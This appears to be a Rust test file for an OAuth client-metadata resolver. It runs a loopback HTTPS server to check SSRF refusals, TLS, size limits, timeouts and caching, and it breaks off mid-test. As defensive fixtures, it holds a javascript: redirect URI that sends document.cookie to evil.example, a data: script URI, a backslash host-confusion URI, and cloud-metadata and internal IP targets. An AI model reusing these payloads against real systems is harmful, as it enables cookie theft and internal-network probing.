//! Client ID Metadata Document resolution, end to end over real HTTPS — on loopback only.
//!
//! A test CA and server certificate are made with rcgen; a small HTTP/1.1-over-TLS server on
//! 127.0.0.1 serves good and bad documents (written by hand, not with a framework, so that a
//! test controls every byte: a lying or missing Content-Length, chunked oversize bodies, a stall).
//!
//! No test sends a packet anywhere but loopback. Names such as `evil.test` exist only in an
//! injected resolver, and `CimdResolver::with_resolver` connects to loopback addresses only (a
//! policy checked after the special-use guard), so even a broken guard could not reach 10.0.0.5:
//! the tests would then fail with the policy's error instead of the guard's. Tests that fetch an
//! IP-literal URL on 127.0.0.1 use the production constructor `CimdResolver::new` (literals never
//! reach DNS).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;
use std::io::Write;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use consentry_protocol::{ErrorCode, GrantType};
use consentry_server::cimd::{CimdConfig, CimdError, CimdResolver, is_cimd_client_id};
use consentry_server::error::ApiError;
use reqwest::dns::{Addrs, Name, Resolve, Resolving};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

// ------------------------------------------------------------------------------------------
// Test PKI and HTTPS server
// ------------------------------------------------------------------------------------------

type Pki = consentry_testkit::pki::TestPki;

/// A CA, and a server certificate it signed for the loopback addresses and a few test names.
fn pki() -> Pki {
    Pki::new(
        "consentry test CA",
        &[
            "localhost",
            "127.0.0.1",
            "::1",
            "docs.example.test",
            "agent.example.test",
        ],
    )
}

struct Server {
    port: u16,
    hits: Arc<Mutex<HashMap<String, usize>>>,
    /// TLS handshakes that failed (the client refused our certificate).
    handshake_failures: Arc<AtomicUsize>,
    /// The most requests this server was serving at one time.
    max_active: Arc<AtomicUsize>,
}

impl Server {
    fn hits(&self, path: &str) -> usize {
        self.hits.lock().unwrap().get(path).copied().unwrap_or(0)
    }
    fn total_hits(&self) -> usize {
        self.hits.lock().unwrap().values().sum()
    }
    fn url(&self, path: &str) -> String {
        format!("https://127.0.0.1:{}{path}", self.port)
    }
}

async fn start_server(pki: &Pki) -> Server {
    let acceptor = pki.acceptor();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits: Arc<Mutex<HashMap<String, usize>>> = Arc::default();
    let handshake_failures = Arc::new(AtomicUsize::new(0));
    let max_active = Arc::new(AtomicUsize::new(0));
    let active = Arc::new(AtomicUsize::new(0));
    let (h, f, m) = (hits.clone(), handshake_failures.clone(), max_active.clone());
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                return;
            };
            let (acceptor, hits, failures) = (acceptor.clone(), h.clone(), f.clone());
            let (active, max) = (active.clone(), m.clone());
            tokio::spawn(async move {
                match acceptor.accept(tcp).await {
                    Ok(stream) => serve(stream, hits, (active, max)).await,
                    Err(_) => {
                        failures.fetch_add(1, Ordering::SeqCst);
                    }
                }
            });
        }
    });
    Server {
        port,
        hits,
        handshake_failures,
        max_active,
    }
}

fn document(client_id: &str) -> serde_json::Value {
    json!({
        "client_id": client_id,
        "client_name": "Docs Agent",
        "redirect_uris": ["https://agent.example.test/callback", "http://127.0.0.1/callback"],
        "client_uri": "https://agent.example.test/",
        "logo_uri": "https://agent.example.test/logo.png",
        "token_endpoint_auth_method": "none",
        "grant_types": ["authorization_code", "refresh_token"],
        "scope": "notes:read notes:write",
    })
}

/// One request per connection: read the head, answer by path, close.
/// Counts the requests being served (from the request read to the answer about to be written)
/// and the most at once.
struct Busy(Arc<AtomicUsize>);

impl Busy {
    fn start((active, max): (Arc<AtomicUsize>, Arc<AtomicUsize>)) -> Busy {
        let now = active.fetch_add(1, Ordering::SeqCst) + 1;
        max.fetch_max(now, Ordering::SeqCst);
        Busy(active)
    }
}

impl Drop for Busy {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::SeqCst);
    }
}

async fn serve(
    mut stream: tokio_rustls::server::TlsStream<tokio::net::TcpStream>,
    hits: Arc<Mutex<HashMap<String, usize>>>,
    gauge: (Arc<AtomicUsize>, Arc<AtomicUsize>),
) {
    let mut head = Vec::new();
    let mut buf = [0u8; 1024];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut buf).await {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
        if head.len() > 16 * 1024 {
            return;
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head.split(' ').nth(1).unwrap_or("/").to_owned();
    let header = |name: &str| {
        head.lines()
            .find_map(|l| {
                let (k, v) = l.split_once(':')?;
                k.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
            })
            .unwrap_or_default()
    };
    let host = header("host");
    let accept = header("accept");
    *hits.lock().unwrap().entry(path.clone()).or_default() += 1;
    let busy = Busy::start(gauge);
    let id = format!("https://{host}{path}");

    let mut status = "200 OK";
    let mut extra = String::new();
    // Answered by path alone: `/valid?t=1` is `/valid` under another client_id (and hit count).
    let route = path.split('?').next().unwrap_or("/");
    let body: String = match route {
        // Refuse anything that does not ask for JSON, so every other test checks the header.
        _ if accept != "application/json" => {
            status = "406 Not Acceptable";
            String::new()
        }
        "/valid" => document(&id).to_string(),
        "/cached" => {
            extra = "Cache-Control: public, max-age=600\r\n".into();
            document(&id).to_string()
        }
        "/nostore" => {
            extra = "Cache-Control: no-store\r\n".into();
            document(&id).to_string()
        }
        "/wrong-id" => document(&format!("https://{host}/someone-else")).to_string(),
        "/secret" => {
            let mut d = document(&id);
            d["client_secret"] = json!("hunter2");
            d.to_string()
        }
        "/private-key-jwt" => {
            let mut d = document(&id);
            d["token_endpoint_auth_method"] = json!("private_key_jwt");
            d.to_string()
        }
        "/secret-basic" => {
            let mut d = document(&id);
            d["token_endpoint_auth_method"] = json!("client_secret_basic");
            d.to_string()
        }
        // Redirect URIs under the registration rule: the first of each list is fine, the
        // second breaks it (a javascript: redirect would run in the consent page's origin).
        p if p.starts_with("/redirect-uri/") => {
            let bad = match &p["/redirect-uri/".len()..] {
                "javascript" => "javascript:fetch('//evil.example/'+document.cookie)//",
                "data" => "data:text/html,<script>alert(1)</script>",
                "vbscript" => "VBScript:msgbox(1)",
                "http-remote" => "http://agent.example.test/callback",
                // A browser goes to evil.example; the host shown would be the whole string.
                "backslash" => "https://evil.example\\agent.example.test/callback",
                _ => "com.example.agent:/callback",
            };
            let mut d = document(&id);
            d["redirect_uris"] = json!(["https://agent.example.test/callback", bad]);
            d.to_string()
        }
        // Every code goes to loopback: any local program could use this client_id.
        "/loopback-only" => {
            let mut d = document(&id);
            d["redirect_uris"] = json!(["http://127.0.0.1/callback", "http://[::1]/callback"]);
            d.to_string()
        }
        "/not-json" => "<html>hello</html>".into(),
        "/big" => {
            let mut d = document(&id);
            d["padding"] = json!("x".repeat(6 * 1024));
            d.to_string()
        }
        "/big-chunked" => {
            // No Content-Length: the cap must hold while the body streams.
            let _ = stream
                .write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\
                      Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
                )
                .await;
            let chunk = "x".repeat(1024);
            for _ in 0..64 {
                let frame = format!("{:x}\r\n{chunk}\r\n", chunk.len());
                if stream.write_all(frame.as_bytes()).await.is_err() {
                    return;
                }
                let _ = stream.flush().await;
            }
            let _ = stream.write_all(b"0\r\n\r\n").await;
            let _ = stream.shutdown().await;
            return;
        }
        "/redirect" => {
            status = "302 Found";
            extra = "Location: /valid\r\n".into();
            String::new()
        }
        "/error" => {
            status = "500 Internal Server Error";
            r#"{"error":"boom"}"#.into()
        }
        "/slow" => {
            tokio::time::sleep(Duration::from_secs(5)).await;
            document(&id).to_string()
        }
        "/slow-ok" => {
            tokio::time::sleep(Duration::from_millis(300)).await;
            extra = "Cache-Control: max-age=600\r\n".into();
            document(&id).to_string()
        }
        "/slow-bad" => {
            tokio::time::sleep(Duration::from_millis(300)).await;
            document("https://elsewhere.example.test/x").to_string()
        }
        _ => {
            status = "404 Not Found";
            String::new()
        }
    };
    // Before the answer goes out: a client that has it may start the next fetch at once.
    drop(busy);
    let resp = format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
         Connection: close\r\n{extra}\r\n{body}",
        body.len()
    );
    let _ = stream.write_all(resp.as_bytes()).await;
    let _ = stream.shutdown().await;
}

// ------------------------------------------------------------------------------------------
// Injected DNS
// ------------------------------------------------------------------------------------------

/// The only name source of a `with_resolver` fetcher: a fixed table, counting lookups.
#[derive(Default)]
struct TableResolver {
    table: HashMap<String, Vec<IpAddr>>,
    lookups: AtomicUsize,
}

impl TableResolver {
    fn new(entries: &[(&str, &[&str])]) -> Arc<TableResolver> {
        Arc::new(TableResolver {
            table: entries
                .iter()
                .map(|(name, ips)| {
                    (
                        (*name).to_owned(),
                        ips.iter().map(|i| i.parse().unwrap()).collect(),
                    )
                })
                .collect(),
            lookups: AtomicUsize::new(0),
        })
    }
    fn lookups(&self) -> usize {
        self.lookups.load(Ordering::SeqCst)
    }
}

impl Resolve for TableResolver {
    fn resolve(&self, name: Name) -> Resolving {
        self.lookups.fetch_add(1, Ordering::SeqCst);
        let found = self.table.get(name.as_str()).cloned();
        let name = name.as_str().to_owned();
        Box::pin(async move {
            match found {
                Some(ips) => {
                    let addrs: Vec<SocketAddr> =
                        ips.into_iter().map(|ip| SocketAddr::new(ip, 0)).collect();
                    Ok(Box::new(addrs.into_iter()) as Addrs)
                }
                None => Err(format!("test resolver: no entry for {name}").into()),
            }
        })
    }
}

fn cfg(pki: &Pki, allow: &[String]) -> CimdConfig {
    CimdConfig {
        allow_hosts: allow.to_vec(),
        extra_ca_file: Some(pki.ca_file.path().to_path_buf()),
        ..CimdConfig::default()
    }
}

/// A production resolver allowed to fetch from the test server's 127.0.0.1 port.
fn loopback_resolver(pki: &Pki, server: &Server) -> CimdResolver {
    CimdResolver::new(&cfg(pki, &[format!("127.0.0.1:{}", server.port)])).unwrap()
}

#[track_caller]
fn assert_msg(e: &CimdError, want: &str) {
    let msg = e.to_string();
    assert!(msg.contains(want), "error '{msg}' should contain '{want}'");
}

// ------------------------------------------------------------------------------------------
// SSRF guard
// ------------------------------------------------------------------------------------------

/// Names that resolve to special-use addresses are refused after resolution, before any
/// connection: the error is the guard's and names the address. (Even if the guard were broken,
/// `with_resolver` would only connect to loopback, so nothing here can leave the machine.)
#[tokio::test]
async fn names_resolving_to_special_use_addresses_are_refused_before_connecting() {
    let pki = pki();
    let server = start_server(&pki).await;
    let cases: &[(&str, &[&str], &str)] = &[
        ("evil.test", &["10.0.0.5"], "10.0.0.5"),
        ("meta.test", &["169.254.169.254"], "169.254.169.254"),
        ("mapped.test", &["::ffff:127.0.0.1"], "::ffff:127.0.0.1"),
        ("mapped10.test", &["::ffff:10.0.0.5"], "::ffff:10.0.0.5"),
        ("cgnat.test", &["100.64.0.1"], "100.64.0.1"),
        ("zero.test", &["0.0.0.0"], "0.0.0.0"),
        ("private172.test", &["172.16.5.4"], "172.16.5.4"),
        ("private192.test", &["192.168.1.1"], "192.168.1.1"),
        ("bench.test", &["198.18.0.1"], "198.18.0.1"),
        ("doc.test", &["203.0.113.7"], "203.0.113.7"),
        ("mcast.test", &["224.0.0.251"], "224.0.0.251"),
        ("bcast.test", &["255.255.255.255"], "255.255.255.255"),
        ("loop.test", &["127.0.0.1"], "127.0.0.1"),
        ("loop6.test", &["::1"], "::1"),
        ("nat64.test", &["64:ff9b::a00:5"], "64:ff9b::a00:5"),
        ("sixtofour.test", &["2002:a00:5::1"], "2002:a00:5::1"),
        ("ula.test", &["fd12:3456::1"], "fd12:3456::1"),
        ("linklocal6.test", &["fe80::1"], "fe80::1"),
        ("docv6.test", &["2001:db8::1"], "2001:db8::1"),
        ("mcast6.test", &["ff02::1"], "ff02::1"),
        // One internal address among public ones refuses the whole answer.
        ("mixed.test", &["8.8.8.8", "10.0.0.5"], "10.0.0.5"),
        ("mixed6.test", &["2606:4700::1111", "::1"], "::1"),
    ];
    let dns = TableResolver::new(
        &cases
            .iter()
            .map(|(n, ips, _)| (*n, *ips))
            .collect::<Vec<_>>(),
    );
    let resolver = CimdResolver::with_resolver(&cfg(&pki, &[]), dns.clone()).unwrap();
    for (i, (name, _, addr)) in cases.iter().enumerate() {
        // The test server's port: were the guard to let loopback through, it would be hit.
        let url = format!("https://{name}:{}/valid", server.port);
        let err = resolver.resolve(&url).await.unwrap_err();
        match &err {
            CimdError::SpecialUseAddress {
                host, addr: got, ..
            } => {
                assert_eq!(host, name);
                assert_eq!(got.to_string(), *addr, "{name}");
            }
            other => panic!("{name}: expected the guard's refusal, got {other:?}: {other}"),
        }
        assert_msg(
            &err,
            &format!("host {name} resolves to a special-use address {addr} ("),
        );
        assert_msg(&err, "RFC 6890");
        assert_eq!(
            dns.lookups(),
            i + 1,
            "the guard runs on the resolver's answer"
        );
    }
    assert_eq!(server.total_hits(), 0);
    assert_eq!(server.handshake_failures.load(Ordering::SeqCst), 0);
    // Names the resolver does not know fail as DNS failures, precisely.
    let err = resolver
        .resolve("https://unknown.test/client.json")
        .await
        .unwrap_err();
    assert_msg(&err, "host unknown.test could not be resolved");
}

/// reqwest connects to IP literals without asking the resolver: they get the same check, made
/// before fetching, and the resolver is never consulted.
#[tokio::test]
async fn ip_literal_hosts_are_checked_too() {
    let pki = pki();
    let server = start_server(&pki).await;
    let dns = TableResolver::new(&[]);
    let resolver = CimdResolver::with_resolver(&cfg(&pki, &[]), dns.clone()).unwrap();
    let port = server.port;
    let cases = [
        ("https://10.0.0.5/client.json".to_owned(), "10.0.0.5"),
        (
            "https://169.254.169.254/latest/meta-data".to_owned(),
            "169.254.169.254",
        ),
        ("https://100.64.0.1/c".to_owned(), "100.64.0.1"),
        ("https://[::ffff:a00:5]/c".to_owned(), "::ffff:10.0.0.5"),
        ("https://[fd00::1]/c".to_owned(), "fd00::1"),
        (
            "https://[64:ff9b::a9fe:a9fe]/c".to_owned(),
            "64:ff9b::a9fe:a9fe",
        ),
        (format!("https://127.0.0.1:{port}/valid"), "127.0.0.1"),
        (format!("https://[::1]:{port}/valid"), "::1"),
    ];
    for (url, addr) in &cases {
        let err = resolver.resolve(url).await.unwrap_err();
        assert!(
            matches!(&err, CimdError::SpecialUseAddress { addr: a, .. } if a.to_string() == *addr),
            "{url}: {err:?}"
        );
        assert_msg(&err, &format!("its host is a special-use address {addr} ("));
    }
    // Other spellings of an IPv4 literal never get that far: the URI grammar refuses a host a
    // browser would read as another address.
    for url in [
        "https://2130706433/c",
        "https://0x7f.1/c",
        "https://127.1/c",
    ] {
        let err = resolver.resolve(url).await.unwrap_err();
        assert!(matches!(err, CimdError::InvalidUrl { .. }), "{url}: {err}");
        assert_msg(&err, "its host or port is malformed");
    }
    assert_eq!(dns.lookups(), 0);
    assert_eq!(server.total_hits(), 0);
}

/// The guard's backstop: `allow_hosts` exempts a name from the special-use check, standing in
/// for a broken guard. The loopback-only policy of `with_resolver` still refuses 10.0.0.5, before
/// connecting — so the guard tests above can never leak traffic.
#[tokio::test]
async fn the_test_policy_stops_what_a_broken_guard_would_let_through() {
    let pki = pki();
    let dns = TableResolver::new(&[("evil.test", &["10.0.0.5"])]);
    let exempt = [
        "evil.test:443".to_owned(),
        "10.0.0.5:443".to_owned(),
        "[fd00::1]:443".to_owned(),
    ];
    let resolver = CimdResolver::with_resolver(&cfg(&pki, &exempt), dns.clone()).unwrap();
    for (url, addr) in [
        ("https://evil.test/client.json", "10.0.0.5"),
        ("https://10.0.0.5/client.json", "10.0.0.5"),
        ("https://[fd00::1]/client.json", "fd00::1"),
    ] {
        let err = resolver.resolve(url).await.unwrap_err();
        assert!(matches!(err, CimdError::Fetch { .. }), "{url}: {err:?}");
        assert_msg(&err, &format!("refusing to connect to {addr} "));
        assert_msg(&err, "connects to loopback addresses only");
    }
    assert_eq!(dns.lookups(), 1);
}

/// `allow_hosts` is exact: the same loopback URL is refused without the entry, or with an entry
/// for another port.
#[tokio::test]
async fn allow_hosts_lifts_the_guard_for_exactly_that_host_and_port() {
    let pki = pki();
    let server = start_server(&pki).await;
    let url = server.url("/valid");
    let port = server.port;
    for allow in [
        vec![],
        vec![format!("127.0.0.1:{}", port.wrapping_add(1))],
        vec![format!("localhost:{port}")],
    ] {
        let resolver = CimdResolver::new(&cfg(&pki, &allow)).unwrap();
        let err = resolver.resolve(&url).await.unwrap_err();
        assert!(
            matches!(err, CimdError::SpecialUseAddress { .. }),
            "{allow:?}: {err}"
        );
        assert_msg(
            &err,
            "special-use address 127.0.0.1 (loopback 127.0.0.0/8; RFC 6890)",
        );
    }
    // By name: docs.example.test -> 127.0.0.1, allowed at another port only.
    let named = format!("https://docs.example.test:{port}/valid");
    let dns = TableResolver::new(&[("docs.example.test", &["127.0.0.1"])]);
    let other_port = [format!("docs.example.test:{}", port.wrapping_add(1))];
    let resolver = CimdResolver::with_resolver(&cfg(&pki, &other_port), dns.clone()).unwrap();
    let err = resolver.resolve(&named).await.unwrap_err();
    assert_msg(
        &err,
        "host docs.example.test resolves to a special-use address 127.0.0.1",
    );
    assert_eq!(server.total_hits(), 0);

    // With the exact entry, both work.
    let ok = loopback_resolver(&pki, &server)
        .resolve(&url)
        .await
        .unwrap();
    assert_eq!(ok.client_id, url);
    let exact = [format!("docs.example.test:{port}")];
    let resolver = CimdResolver::with_resolver(&cfg(&pki, &exact), dns.clone()).unwrap();
    let ok = resolver.resolve(&named).await.unwrap();
    assert_eq!(ok.client_id, named);
    assert_eq!(server.hits("/valid"), 2);
}

// ------------------------------------------------------------------------------------------
// Fetching and validating
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_valid_document_becomes_a_public_client() {
    let pki = pki();
    let server = start_server(&pki).await;
    let url = server.url("/valid");
    assert!(is_cimd_client_id(&url));
    let c = loopback_resolver(&pki, &server)
        .resolve(&url)
        .await
        .unwrap();
    assert_eq!(c.client_id, url);
    assert_eq!(c.client_name, "Docs Agent");
    assert_eq!(
        c.redirect_uris,
        [
            "https://agent.example.test/callback",
            "http://127.0.0.1/callback"
        ]
    );
    assert_eq!(c.token_endpoint_auth_method.as_str(), "none");
    assert!(!c.is_confidential());
    assert_eq!(c.client_uri.as_deref(), Some("https://agent.example.test/"));
    assert_eq!(
        c.logo_uri.as_deref(),
        Some("https://agent.example.test/logo.png")
    );
    assert_eq!(c.scope.as_deref().unwrap(), ["notes:read", "notes:write"]);
    assert!(
        c.allows_grant(GrantType::AuthorizationCode) && c.allows_grant(GrantType::RefreshToken)
    );
    assert!(!c.allows_grant(GrantType::ClientCredentials));
    assert!(!c.verified, "127.0.0.1 is not in trusted_domains");
    assert_eq!(
        c.source,
        consentry_server::clients::ClientSource::MetadataDocument
    );
    assert_eq!(
        c.resolve_redirect_uri(Some("http://127.0.0.1:5555/callback"))
            .unwrap(),
        "http://127.0.0.1:5555/callback"
    );
    // A native app's private-use scheme passes the registration rule.
    let native = loopback_resolver(&pki, &server)
        .resolve(&server.url("/redirect-uri/private-use"))
        .await
        .unwrap();
    assert_eq!(
        native
            .resolve_redirect_uri(Some("com.example.agent:/callback"))
            .unwrap(),
        "com.example.agent:/callback"
    );

    // Trusted domains: exact, and *.suffix for a named host.
    let mut trusted = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
    trusted.trusted_domains = vec!["127.0.0.1".into()];
    let c = CimdResolver::new(&trusted)
        .unwrap()
        .resolve(&url)
        .await
        .unwrap();
    assert!(c.verified);
    let named = format!("https://docs.example.test:{}/valid", server.port);
    let dns = TableResolver::new(&[("docs.example.test", &["127.0.0.1"])]);
    let mut trusted = cfg(&pki, &[format!("docs.example.test:{}", server.port)]);
    trusted.trusted_domains = vec!["*.example.test".into()];
    let c = CimdResolver::with_resolver(&trusted, dns.clone())
        .unwrap()
        .resolve(&named)
        .await
        .unwrap();
    assert!(c.verified);
    assert_eq!(c.client_id, named);
    trusted.trusted_domains = vec!["example.test".into()];
    let c = CimdResolver::with_resolver(&trusted, dns)
        .unwrap()
        .resolve(&named)
        .await
        .unwrap();
    assert!(!c.verified, "exact entries do not cover subdomains");
}

/// A document whose redirect URIs are all loopback is never verified, whatever
/// `trusted_domains` says: its host vouches for a program that any local process can pose as.
#[tokio::test]
async fn a_loopback_only_document_is_never_verified() {
    let pki = pki();
    let server = start_server(&pki).await;
    let mut trusted = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
    trusted.trusted_domains = vec!["127.0.0.1".into()];
    let resolver = CimdResolver::new(&trusted).unwrap();
    let c = resolver
        .resolve(&server.url("/loopback-only"))
        .await
        .unwrap();
    assert!(!c.verified, "all redirect URIs are loopback");
    // The same trusted host with one web redirect URI among them stays verified.
    let c = resolver.resolve(&server.url("/valid")).await.unwrap();
    assert!(c.verified);
}

#[tokio::test]
async fn every_broken_document_is_refused_with_the_rule_it_breaks() {
    let pki = pki();
    let server = start_server(&pki).await;
    let resolver = loopback_resolver(&pki, &server);
    let u = |p: &str| server.url(p);
    let cases = [
        (
            "/wrong-id",
            format!(
                "client metadata document at {} has client_id 'https://127.0.0.1:{}/someone-else', \
                 which differs from the URL",
                u("/wrong-id"),
                server.port
            ),
        ),
        (
            "/big",
            format!(
                "client metadata document at {} is larger than 5120 bytes",
                u("/big")
            ),
        ),
        (
            "/big-chunked",
            format!(
                "client metadata document at {} is larger than 5120 bytes",
                u("/big-chunked")
            ),
        ),
        (
            "/redirect",
            format!(
                "client metadata document at {} returned HTTP 302; redirects are not followed",
                u("/redirect")
            ),
        ),
        (
            "/secret",
            format!(
                "client metadata document at {} carries client_secret",
                u("/secret")
            ),
        ),
        (
            "/secret-basic",
            "token_endpoint_auth_method 'client_secret_basic', a shared-secret method".into(),
        ),
        (
            "/private-key-jwt",
            "token_endpoint_auth_method 'private_key_jwt', which this server does not support"
                .into(),
        ),
        (
            "/error",
            format!(
                "client metadata document at {} returned HTTP 500; only 200 is accepted",
                u("/error")
            ),
        ),
        ("/nope", "returned HTTP 404; only 200 is accepted".into()),
        (
            "/redirect-uri/javascript",
            "has an invalid redirect_uris[1]: scheme 'javascript' of".into(),
        ),
        (
            "/redirect-uri/data",
            "has an invalid redirect_uris[1]: scheme 'data' of".into(),
        ),
        (
            "/redirect-uri/vbscript",
            "has an invalid redirect_uris[1]: scheme 'vbscript' of".into(),
        ),
        (
            "/redirect-uri/http-remote",
            "has an invalid redirect_uris[1]: 'http://agent.example.test/callback' is not allowed for application_type 'web'".into(),
        ),
        (
            "/redirect-uri/backslash",
            "has an invalid redirect_uris[1]: redirect_uri contains characters that are not allowed; expected a URI without '\\'".into(),
        ),
        ("/not-json", "is not valid JSON".into()),
    ];
    for (path, want) in &cases {
        let err = resolver.resolve(&u(path)).await.unwrap_err();
        assert_msg(&err, want);
        let api = ApiError::from(err.clone());
        assert_eq!(api.status, axum::http::StatusCode::BAD_REQUEST);
        assert_eq!(api.code, ErrorCode::InvalidClient);
        if matches!(err, CimdError::Status { .. } | CimdError::TooLarge { .. }) {
            // What the fetch ran into is the log's, not the caller's (no scanning oracle).
            assert_eq!(api.description, generic_failure(&u(path)), "{path}");
        } else {
            assert_eq!(api.description, err.to_string());
        }
    }
    assert_eq!(server.hits("/valid"), 0, "the redirect was not followed");
    assert!(matches!(
        resolver.resolve(&u("/big")).await.unwrap_err(),
        CimdError::TooLarge { limit: 5120, .. }
    ));
}

#[tokio::test]
async fn a_slow_server_times_out_after_3_seconds() {
    let pki = pki();
    let server = start_server(&pki).await;
    let url = server.url("/slow");
    let started = Instant::now();
    let err = loopback_resolver(&pki, &server)
        .resolve(&url)
        .await
        .unwrap_err();
    let took = started.elapsed();
    assert_eq!(
        err.to_string(),
        format!("client metadata document at {url} timed out after 3 s")
    );
    assert!(
        took >= Duration::from_millis(2900) && took < Duration::from_millis(4000),
        "{took:?}"
    );
}

#[tokio::test]
async fn an_untrusted_certificate_fails_tls() {
    let pki = pki();
    let server = start_server(&pki).await;
    let url = server.url("/valid");
    // No extra CA: only the public roots, which do not know the test CA.
    let no_ca = CimdConfig {
        allow_hosts: vec![format!("127.0.0.1:{}", server.port)],
        ..CimdConfig::default()
    };
    let err = CimdResolver::new(&no_ca)
        .unwrap()
        .resolve(&url)
        .await
        .unwrap_err();
    assert!(matches!(err, CimdError::Fetch { .. }), "{err:?}");
    assert_msg(&err, "could not be fetched: TLS handshake failed");
    assert_msg(&err, "certificate");
    // A certificate from the trusted CA, but for other names.
    let dns = TableResolver::new(&[("other.test", &["127.0.0.1"])]);
    let resolver =
        CimdResolver::with_resolver(&cfg(&pki, &[format!("other.test:{}", server.port)]), dns)
            .unwrap();
    let err = resolver
        .resolve(&format!("https://other.test:{}/valid", server.port))
        .await
        .unwrap_err();
    assert_msg(&err, "TLS handshake failed");
    assert_msg(&err, "certificate");
    assert_eq!(server.total_hits(), 0);
}

// ------------------------------------------------------------------------------------------
// Caching
// ------------------------------------------------------------------------------------------

/// The one description a caller gets for any failure to retrieve a document.
fn generic_failure(url: &str) -> String {
    format!(
        "client metadata document at {url} could not be retrieved (the server log has the \
         cause); it is not fetched again for 60 s"
    )
}

#[tokio::test]
async fn valid_documents_are_cached_and_failures_for_a_minute() {
    let pki = pki();
    let server = start_server(&pki).await;
    let resolver = loopback_resolver(&pki, &server);
    for _ in 0..3 {
        resolver.resolve(&server.url("/cached")).await.unwrap();
        resolver.resolve(&server.url("/valid")).await.unwrap();
        resolver.resolve(&server.url("/nostore")).await.unwrap();
        resolver
            .resolve(&server.url("/wrong-id"))
            .await
            .unwrap_err();
        resolver.resolve(&server.url("/error")).await.unwrap_err();
    }
    assert_eq!(server.hits("/cached"), 1, "max-age=600: fetched once");
    assert_eq!(
        server.hits("/valid"),
        1,
        "no Cache-Control: min_cache_seconds (60 s)"
    );
    assert_eq!(server.hits("/nostore"), 3, "no-store: never cached");
    assert_eq!(
        server.hits("/wrong-id"),
        1,
        "invalid documents: the failure is remembered"
    );
    assert_eq!(server.hits("/error"), 1, "HTTP errors: remembered");
    // The remembered failure is the same error, rule and all.
    let again = resolver
        .resolve(&server.url("/wrong-id"))
        .await
        .unwrap_err();
    assert_msg(&again, "which differs from the URL");

    // min_cache_seconds = 0 and no Cache-Control: not cached.
    let mut no_min = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
    no_min.min_cache_seconds = 0;
    let resolver = CimdResolver::new(&no_min).unwrap();
    resolver.resolve(&server.url("/valid")).await.unwrap();
    resolver.resolve(&server.url("/valid")).await.unwrap();
    assert_eq!(server.hits("/valid"), 3);
}

/// Concurrent resolutions of one URL share one fetch — its success, or its error (which is
/// then remembered: the next call does not fetch again).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_resolutions_share_one_fetch() {
    let pki = pki();
    let server = start_server(&pki).await;
    let resolver = Arc::new(loopback_resolver(&pki, &server));
    for (path, ok) in [("/slow-ok", true), ("/slow-bad", false)] {
        let url = server.url(path);
        let mut tasks = tokio::task::JoinSet::new();
        for _ in 0..8 {
            let (r, url) = (resolver.clone(), url.clone());
            tasks.spawn(async move { r.resolve(&url).await });
        }
        let results = tasks.join_all().await;
        assert_eq!(results.len(), 8);
        assert!(results.iter().all(|r| r.is_ok() == ok), "{results:?}");
        assert_eq!(server.hits(path), 1, "{path}: one fetch for 8 callers");
    }
    resolver.resolve(&server.url("/slow-ok")).await.unwrap();
    assert_eq!(server.hits("/slow-ok"), 1, "cached");
    resolver
        .resolve(&server.url("/slow-bad"))
        .await
        .unwrap_err();
    assert_eq!(
        server.hits("/slow-bad"),
        1,
        "the shared error is remembered"
    );
}

// ------------------------------------------------------------------------------------------
// Bounded fetching: failures remembered, a budget per client address, a global cap
// ------------------------------------------------------------------------------------------

/// A host whose fetch failed below HTTP (here: a timeout) is not contacted again for a minute,
/// whatever URL on it is asked for (`?t=0..9`); an HTTP failure is remembered for its URL only.
#[tokio::test]
async fn a_failing_host_is_not_contacted_again_for_a_minute() {
    let pki = pki();
    let server = start_server(&pki).await;
    let resolver = loopback_resolver(&pki, &server);
    let err = resolver.resolve(&server.url("/slow")).await.unwrap_err();
    assert!(matches!(err, CimdError::Timeout { .. }), "{err:?}");
    // The server counts a request when it has read it, before it stalls.
    assert_eq!(server.total_hits(), 1);
    for t in 0..10 {
        let url = server.url(&format!("/valid?t={t}"));
        let err = resolver.resolve(&url).await.unwrap_err();
        assert!(matches!(err, CimdError::HostFailing { .. }), "{err:?}");
        assert_eq!(ApiError::from(err).description, generic_failure(&url));
    }
    assert_eq!(server.total_hits(), 1, "no request after the host failed");

    // A 404 is the document's failure, not the host's: other URLs are still fetched.
    let resolver = loopback_resolver(&pki, &server);
    for _ in 0..3 {
        resolver.resolve(&server.url("/nope")).await.unwrap_err();
    }
    assert_eq!(server.hits("/nope"), 1);
    resolver.resolve(&server.url("/valid")).await.unwrap();
    assert_eq!(server.hits("/valid"), 1);
}

/// Each client address (an IPv6 /64 as one) may cause `fetches_per_client_per_minute` fetches;
/// past it, 429 with Retry-After and no fetch. Cached documents and remembered failures are
/// answered without counting.
#[tokio::test]
async fn each_client_address_has_a_fetch_budget() {
    let pki = pki();
    let server = start_server(&pki).await;
    let mut c = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
    c.fetches_per_client_per_minute = 3;
    let resolver = CimdResolver::new(&c).unwrap();
    let a: IpAddr = "2001:db8:1:2::1".parse().unwrap();
    let a_same_64: IpAddr = "2001:db8:1:2:ffff::9".parse().unwrap();
    let b: IpAddr = "198.51.100.7".parse().unwrap();
    let url = |t: usize| server.url(&format!("/nope?t={t}"));
    for t in 0..3 {
